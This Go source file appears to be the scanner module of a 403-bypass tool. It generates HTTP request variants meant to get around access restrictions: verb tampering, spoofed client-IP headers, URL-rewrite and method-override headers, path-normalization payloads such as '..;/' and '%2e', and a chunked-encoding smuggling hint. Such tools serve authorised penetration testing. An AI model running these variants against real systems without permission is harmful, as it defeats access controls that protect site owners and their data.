package scanner

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"

	"bypass403/internal/utils"
)

// Variant is one alternate request shape tried against the target.
type Variant struct {
	Technique string
	Payload   string
	Method    string
	URL       string
	Headers   map[string]string
	Form      url.Values
}

// Category groups the variants of one technique family under the banner
// printed before they run.
type Category struct {
	Title    string
	Variants []Variant
}

// Target is the normalized URL under test.
type Target struct {
	Raw string
	URL *url.URL
}

// ParseTarget normalizes raw and parses it once for the whole run.
func ParseTarget(raw string) (Target, error) {
	raw = utils.NormalizeTarget(raw)
	u, err := url.Parse(raw)
	if err != nil {
		return Target{}, fmt.Errorf("invalid target URL %q: %w", raw, err)
	}
	if u.Host == "" {
		return Target{}, fmt.Errorf("invalid target URL %q: missing host", raw)
	}
	return Target{Raw: raw, URL: u}, nil
}

// Origin returns scheme://[userinfo@]host without a trailing slash. Keeping
// the userinfo lets every variant carry the same basic-auth credentials.
func (t Target) Origin() string {
	return (&url.URL{Scheme: t.URL.Scheme, User: t.URL.User, Host: t.URL.Host}).String()
}

// Path returns the target path as written, without the query.
func (t Target) Path() string {
	return t.URL.EscapedPath()
}

var (
	verbs = []string{
		http.MethodGet, http.MethodPost, http.MethodPut, http.MethodDelete, http.MethodPatch,
		http.MethodHead, "PROPFIND", http.MethodOptions, http.MethodTrace, http.MethodConnect,
		"INVENTED",
	}

	ipHeaders = []string{
		"X-Originating-IP", "X-Forwarded-For", "X-Forwarded", "Forwarded-For",
		"X-Remote-IP", "X-Remote-Addr", "X-ProxyUser-Ip", "Client-IP",
		"True-Client-IP", "Cluster-Client-IP", "X-Client-IP", "X-Real-IP",
	}
	ipValues = []string{"127.0.0.1", "localhost", "0.0.0.0", "192.168.1.1", "10.0.0.1"}

	rewriteHeaders  = []string{"X-Original-URL", "X-Rewrite-URL", "X-Override-URL", "X-Forwarded-URL"}
	overrideHeaders = []string{"X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"}

	pathExtensions = []string{".json", ".html", ".xml", ".php", ".aspx", ".jsp"}
)

// Plan returns every category in execution order.
func Plan(t Target) []Category {
	return []Category{
		{Title: "Testing HTTP Verbs...", Variants: VerbVariants(t)},
		{Title: "Testing Headers (IP Spoofing & Rewrites)...", Variants: HeaderVariants(t)},
		{Title: "Testing Path Manipulation (Tomcat, Nginx, normalization)...", Variants: PathVariants(t)},
		{Title: "Testing Protocol Pollution / Smuggling hints...", Variants: PollutionVariants(t)},
	}
}

// CountVariants sums the variants of a plan.
func CountVariants(plan []Category) int {
	n := 0
	for _, c := range plan {
		n += len(c.Variants)
	}
	return n
}

// VerbVariants sends the target URL with every verb in the catalog.
func VerbVariants(t Target) []Variant {
	out := make([]Variant, 0, len(verbs))
	for _, verb := range verbs {
		out = append(out, Variant{
			Technique: "Verb " + verb,
			Payload:   verb,
			Method:    verb,
			URL:       t.Raw,
		})
	}
	return out
}

// HeaderVariants covers client-IP spoofing, URL-rewrite headers pointed at
// the site root, and method-override headers.
func HeaderVariants(t Target) []Variant {
	out := make([]Variant, 0, len(ipHeaders)*len(ipValues)+len(rewriteHeaders)+len(overrideHeaders))

	for _, h := range ipHeaders {
		for _, val := range ipValues {
			out = append(out, Variant{
				Technique: "Header-IP",
				Payload:   h + ": " + val,
				Method:    http.MethodGet,
				URL:       t.Raw,
				Headers:   map[string]string{h: val},
			})
		}
	}

	targetPath := t.Path()
	if targetPath == "" {
		targetPath = "/"
	}
	root := t.Origin() + "/"
	for _, h := range rewriteHeaders {
		out = append(out, Variant{
			Technique: "Header-Rewrite",
			Payload:   fmt.Sprintf("GET / + %s: %s", h, targetPath),
			Method:    http.MethodGet,
			URL:       root,
			Headers:   map[string]string{h: targetPath},
		})
	}

	for _, h := range overrideHeaders {
		out = append(out, Variant{
			Technique: "Header-Method",
			Payload:   h + ": POST",
			Method:    http.MethodGet,
			URL:       t.Raw,
			Headers:   map[string]string{h: http.MethodPost},
		})
	}
	return out
}

// PathCandidates returns the request-target permutations for path. An empty
// or root path yields the reduced root set, whose shape depends on whether
// the raw URL already ends in a slash.
func PathCandidates(path string, urlEndsWithSlash bool) []string {
	if path == "" || path == "/" {
		if urlEndsWithSlash {
			return []string{"..;/", ";index.html"}
		}
		return []string{"/", "/..;/", "/;index.html"}
	}

	p := strings.TrimLeft(path, "/")
	out := []string{
		"/" + p + "/.",
		"//%2e//" + p,
		"/./" + p + "/./",
		"/" + p + "%20",
		"/" + p + "%09",
		"/" + p + "?",
		"/" + p + "??",
		"///" + p + "//",
		"/" + p + "/",
		"/" + p + "/..;/",
		"/" + strings.ToUpper(p),
		"/" + utils.SwapCase(p),
		"/" + utils.QuotePath(p),
		"/" + p + ";",
		"/" + p + ";/",
		"/" + p + ";.css",
		"/" + p + ";.js",
		"/" + p + ";index.html",
		"/" + p + ";param=value",
		"/;/" + p,
		"/.;/" + p,
	}
	for _, ext := range pathExtensions {
		out = append(out, "/"+p+ext, "/"+p+"/"+ext)
	}
	out = append(out, `\`+p, `/.\`+p)
	return out
}

// ResolveCandidate turns a path candidate into a full URL. Candidates rooted
// at / or \ replace the path; the rest are appended to the raw target.
func ResolveCandidate(t Target, candidate string) string {
	if strings.HasPrefix(candidate, "/") || strings.HasPrefix(candidate, `\`) {
		return t.Origin() + candidate
	}
	return t.Raw + candidate
}

// PathVariants resolves every path candidate of the target into a GET.
func PathVariants(t Target) []Variant {
	candidates := PathCandidates(t.Path(), strings.HasSuffix(t.Raw, "/"))
	out := make([]Variant, 0, len(candidates))
	for _, c := range candidates {
		out = append(out, Variant{
			Technique: "Path",
			Payload:   c,
			Method:    http.MethodGet,
			URL:       ResolveCandidate(t, c),
		})
	}
	return out
}

// PollutionVariants are the body-based method override and the chunked
// transfer-encoding smuggling hint.
func PollutionVariants(t Target) []Variant {
	return []Variant{
		{
			Technique: "Pollution",
			Payload:   "POST + _method=POST",
			Method:    http.MethodPost,
			URL:       t.Raw,
			Form:      url.Values{"_method": {http.MethodPost}},
		},
		{
			Technique: "Smuggling",
			Payload:   "Transfer-Encoding: chunked",
			Method:    http.MethodGet,
			URL:       t.Raw,
			Headers:   map[string]string{"Transfer-Encoding": "chunked"},
		},
	}
}
